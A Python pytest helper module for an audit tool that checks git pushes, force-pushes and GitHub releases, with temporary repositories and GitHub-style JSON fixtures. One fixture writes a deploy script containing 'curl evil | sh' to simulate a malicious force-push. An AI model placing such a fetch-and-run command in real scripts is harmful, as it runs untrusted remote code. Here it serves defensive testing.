"""Real repositories and GitHub-shaped JSON for loop-pi-audit tests."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest
from inprocess import FORCE_SUBPROCESS, loop_pi_audit

from audit.evidence.charter import load_charter
from audit.evidence.history import gather_history
from audit.evidence.pushlog import read_push_log
from audit.evidence.snapshot import take_snapshot
from audit.judge.compare import judge
from audit.model import Charter, Finding

ZERO = "0" * 40


def git(repo: Path, *args: str, env: Mapping[str, str] | None = None,
        input: str | None = None) -> str:
    """Run git in `repo`; fail the test with git's stderr if it fails."""
    done = subprocess.run(["git", "-C", str(repo), *args], capture_output=True, text=True,
                          env=dict(env) if env is not None else None, input=input, check=False)
    if done.returncode != 0:
        raise AssertionError(f"git {' '.join(args)} failed ({done.returncode}): {done.stderr}")
    return done.stdout


def commit(repo: Path, path: str, text: str, msg: str,
           trailers: Iterable[tuple[str, str]] = ()) -> str:
    """Write `text` to `path`, commit it (with optional trailers) and return the new SHA."""
    target = repo / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text)
    git(repo, "add", "--", path)
    message = msg
    if trailers:
        message += "\n\n" + "\n".join(f"{k}: {v}" for k, v in trailers)
    git(repo, "commit", "-q", "-m", message)
    return git(repo, "rev-parse", "HEAD").strip()


def make_bare(path: Path) -> Path:
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(path)], check=True)
    return path


def make_repo_with_remote(tmp_path: Path, name: str = "work") -> tuple[Path, Path]:
    """A clone with one commit on main, pushed to a bare `origin` whose HEAD is main."""
    bare = make_bare(tmp_path / f"{name}-remote.git")
    clone = tmp_path / name
    subprocess.run(["git", "init", "-q", "-b", "main", str(clone)], check=True)
    commit(clone, "README.md", "hello\n", "initial")
    git(clone, "remote", "add", "origin", str(bare))
    git(clone, "push", "-q", "-u", "origin", "main")
    return clone, bare


def enterprise_remote(clone: Path, bare: Path, httpserver: Any,
                      monkeypatch: pytest.MonkeyPatch, owner_name: str) -> str:
    """Make origin a GitHub Enterprise repository whose API the test's HTTP server answers (git
    itself still reaches the bare remote, through insteadOf); the API's base URL."""
    url = f"https://localhost:{httpserver.port}/{owner_name}.git"
    git(clone, "remote", "set-url", "origin", url)
    git(clone, "config", f"url.{bare}.insteadOf", url)
    api: str = httpserver.url_for("/api/v3").rstrip("/")
    monkeypatch.setenv("GITHUB_API_URL", api)
    monkeypatch.setenv("GITHUB_TOKEN", "test-token")
    return api


def rev(repo: Path, what: str) -> str:
    return git(repo, "rev-parse", what).strip()


def force_push_and_put_back(clone: Path, bare: Path) -> None:
    """main force-pushed to other code (a deploy script), then put back where it was."""
    start = rev(clone, "HEAD")
    (clone / "deploy.sh").write_text("curl evil | sh\n")
    git(clone, "add", "deploy.sh")
    git(clone, "commit", "-q", "--amend", "-m", "initial")
    git(clone, "push", "-q", "--force", "origin", "main")
    assert rev(bare, "refs/heads/main") != start
    git(clone, "push", "-q", "--force", "origin", f"{start}:refs/heads/main")
    assert rev(bare, "refs/heads/main") == start


def isolate_git(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """No system or user git config, no GitHub credentials from the machine; returns the empty
    global config file so a test may add to it (e.g. url.<base>.insteadOf)."""
    cfg = tmp_path / "gitconfig-global"
    cfg.write_text("")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(cfg))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    for var in ("GITHUB_TOKEN", "GH_TOKEN", "GITHUB_API_URL", "LOOP_PI_RUN_DIR",
                "LOOP_PI_GIT_TIMEOUT", "GIT_SSH_COMMAND"):
        monkeypatch.delenv(var, raising=False)
    return cfg


def run_cli(*args: str, env: Mapping[str, str] | None = None, cwd: Path | None = None,
            input: str | None = None) -> subprocess.CompletedProcess[str]:
    """`loop-pi-audit ARGS`: in this process (tests/inprocess.py), or as a real process (the
    installed interpreter, `-m audit.main`) when LOOP_JOBS_TEST_SUBPROCESS=1."""
    if not FORCE_SUBPROCESS:
        return loop_pi_audit(args, env=env, cwd=cwd, input=input)
    return subprocess.run([sys.executable, "-m", "audit.main", *args], capture_output=True,
                          text=True, env=dict(env) if env is not None else None, cwd=cwd,
                          input=input, check=False)


def env_with(**extra: str) -> dict[str, str]:
    env = dict(os.environ)
    env.update(extra)
    return env


# --- GitHub-shaped JSON (field names as the REST API sends them) ---------------------------------

def gh_user(login: str, user_id: int = 1, kind: str = "User") -> dict[str, Any]:
    return {"login": login, "id": user_id, "node_id": f"U_{user_id}", "type": kind,
            "site_admin": False, "url": f"https://api.github.com/users/{login}"}


def gh_release(api_base: str, owner_name: str, release_id: int, tag: str, *,
               author: str = "release-please[bot]", draft: bool = False,
               prerelease: bool = False, target: str = "main", name: str | None = None,
               created_at: str = "2026-11-29T10:00:00Z",
               published_at: str | None = "2026-11-29T10:05:00Z",
               assets: Sequence[dict[str, Any]] = ()) -> dict[str, Any]:
    """One release object as `GET /repos/{o}/{n}/releases` returns it."""
    url = f"{api_base}/repos/{owner_name}/releases/{release_id}"
    return {
        "url": url, "id": release_id, "node_id": f"RE_{release_id}", "tag_name": tag,
        "target_commitish": target, "name": tag if name is None else name, "draft": draft,
        "prerelease": prerelease,
        "author": gh_user(author, 41898282 if author.endswith("[bot]") else 7,
                          "Bot" if author.endswith("[bot]") else "User"),
        "created_at": created_at, "published_at": None if draft else published_at,
        "assets_url": f"{url}/assets", "upload_url": f"{url}/assets{{?name,label}}",
        "html_url": f"https://github.com/{owner_name}/releases/tag/{tag}",
        "tarball_url": f"{api_base}/repos/{owner_name}/tarball/{tag}",
        "zipball_url": f"{api_base}/repos/{owner_name}/zipball/{tag}",
        "assets": list(assets), "body": f"Release {tag}",
    }


def gh_asset(api_base: str, owner_name: str, asset_id: int, name: str, *, size: int = 1024,
             digest: str | None = "sha256:" + "a" * 64, uploader: str = "github-actions[bot]",
             updated_at: str = "2026-11-29T10:06:00Z") -> dict[str, Any]:
    """One release asset as the releases list embeds it."""
    return {
        "url": f"{api_base}/repos/{owner_name}/releases/assets/{asset_id}", "id": asset_id,
        "node_id": f"RA_{asset_id}", "name": name, "label": "", "content_type":
        "application/gzip", "state": "uploaded", "size": size, "digest": digest,
        "download_count": 0, "created_at": updated_at, "updated_at": updated_at,
        "browser_download_url": f"https://github.com/{owner_name}/releases/download/{name}",
        "uploader": gh_user(uploader, 41898282 if uploader.endswith("[bot]") else 7,
                            "Bot" if uploader.endswith("[bot]") else "User"),
    }


def gh_activity(activity_id: int, ref: str, before: str, after: str, kind: str = "push",
                actor: str | None = "octocat", timestamp: str = "2026-11-30T08:00:00Z"
                ) -> dict[str, Any]:
    """One item of `GET /repos/{o}/{n}/activity` (newest first in a page)."""
    return {"id": activity_id, "node_id": f"RA_{activity_id}", "before": before, "after": after,
            "ref": ref, "timestamp": timestamp, "activity_type": kind,
            "actor": gh_user(actor) if actor is not None else None}


def link_header(pages: Sequence[tuple[str, str]]) -> str:
    """`Link: <url>; rel="next", <url>; rel="last"` from (rel, url) pairs."""
    return ", ".join(f'<{url}>; rel="{rel}"' for rel, url in pages)


# --- a run: a clone, its bare remote, a before-snapshot and a push log ------------------------

GH = "acme/widgets"
GH_URL = f"https://github.com/{GH}.git"


class Run:
    """A run's clone and its bare remote, the before-snapshot, and the push log it keeps."""

    def __init__(self, tmp_path: Path, *, github: bool = False, session: str = "mine",
                 authority: str = "") -> None:
        self.tmp = tmp_path
        self.clone, self.bare = make_repo_with_remote(tmp_path)
        if github:
            git(self.clone, "remote", "set-url", "origin", GH_URL)
            git(self.clone, "config", f"url.{self.bare}.insteadOf", GH_URL)
        self.key = str(self.clone.resolve())
        self.log = tmp_path / "push-log.jsonl"
        self.log.write_text("")
        charter = tmp_path / "charter.md"
        charter.write_text(f"# Charter: {GH} loop1\n"
                           + (f"authority: {authority}\n" if authority else "")
                           + (f"session: {session}\n" if session else ""))
        self.charter: Charter | None = load_charter(charter)
        self.github = github
        self.before = self.snapshot()

    def snapshot(self) -> dict[str, Any]:
        snap = take_snapshot([self.clone], charter_sha256=None)
        if self.github:
            # No token in tests: the evidence code marks releases unavailable; stand in for
            # GitHub with an empty, readable list (tests add releases to the after side).
            snap["repos"][self.key]["releases"] = {
                "available": True, "releases": [], "github_repo": GH, "github_repos": [GH]}
        return snap

    def remote_sha(self, ref: str) -> str:
        out = git(self.clone, "ls-remote", "origin", ref).split()
        return out[0] if out else ZERO

    def push(self, src: str = "HEAD", ref: str = "refs/heads/main", *, logged: bool = True,
             force: bool = False, repo: Path | None = None, remote: str = "origin",
             clone: Path | None = None) -> None:
        where = clone or self.clone
        old = self.remote_sha(ref)
        git(where, "push", "-q", *(["--force"] if force else []), remote, f"{src}:{ref}")
        new = ZERO if src == "" else rev(where, src)
        if logged:
            self.record(ref, old, new, repo=repo or where, remote=remote)

    def record(self, ref: str, old: str, new: str, *, repo: Path | None = None,
               remote: str = "origin") -> None:
        with self.log.open("a") as fh:
            fh.write(json.dumps({"repo": str(repo or self.clone), "remote": remote, "ref": ref,
                                 "old": old, "new": new, "at": "2026-11-30T07:00:00Z",
                                 "source": "test"}) + "\n")

    def judge(self, after: dict[str, Any] | None = None,
              charter: Charter | None | bool = True) -> list[Finding]:
        after = after if after is not None else self.snapshot()
        entries = read_push_log(self.log)
        history = gather_history(self.before, after, entries)
        chosen = self.charter if charter is True else (charter or None)
        return judge(self.before, after, chosen, history, ())


def other_clone(run: Run, name: str = "other") -> Path:
    path = run.tmp / name
    git(run.tmp, "clone", "-q", str(run.bare), str(path))
    return path


def verdicts(findings: list[Finding]) -> dict[tuple[str, str], str]:
    """(ref or commit, kind) → verdict, for assertions that read like the report; a run of
    commits (a logged push's, which the judge reports as one) by its newest and oldest."""
    out: dict[tuple[str, str], str] = {}
    for f in findings:
        out[(f.commit or f.ref, f.kind)] = f.verdict
        if f.first is not None:
            out[(f.first, f.kind)] = f.verdict
    return out


def commit_verdicts(findings: list[Finding]) -> dict[str, str]:
    """commit → verdict; a run of commits by its newest and oldest."""
    out = {f.commit: f.verdict for f in findings if f.commit is not None}
    out.update({f.first: f.verdict for f in findings if f.first is not None})
    return out


def branch_verdict(findings: list[Finding], ref: str = "refs/heads/main") -> str:
    return next(f.verdict for f in findings if f.ref == ref and f.kind.startswith("branch-"))


# --- snapshot files, as `compare` reads them -----------------------------------------------------

def write_snapshot(path: Path, snap: dict[str, Any]) -> Path:
    path.write_text(json.dumps(snap))
    return path


def moved_snapshots(tmp_path: Path) -> tuple[Path, dict[str, Any], dict[str, Any], str]:
    """A clone whose main moved by one unlogged commit between two snapshots: the clone, both
    snapshots and the clone's key in them."""
    clone, _ = make_repo_with_remote(tmp_path)
    before = take_snapshot([clone], charter_sha256=None)
    commit(clone, "src/x.py", "x\n", "more")
    git(clone, "push", "-q", "origin", "main")
    after = take_snapshot([clone], charter_sha256=None)
    return clone, before, after, str(clone.resolve())


def compare_files(tmp_path: Path, before: dict[str, Any], after: dict[str, Any],
                  log: Path) -> tuple[int, str, str, Path, Path]:
    """`compare` of the two snapshots written to files, with `log`: its exit code, stdout and
    stderr, and the two files."""
    b = write_snapshot(tmp_path / "before.json", before)
    a = write_snapshot(tmp_path / "after.json", after)
    done = run_cli("compare", str(b), str(a), "--push-log", str(log))
    return done.returncode, done.stdout, done.stderr, b, a
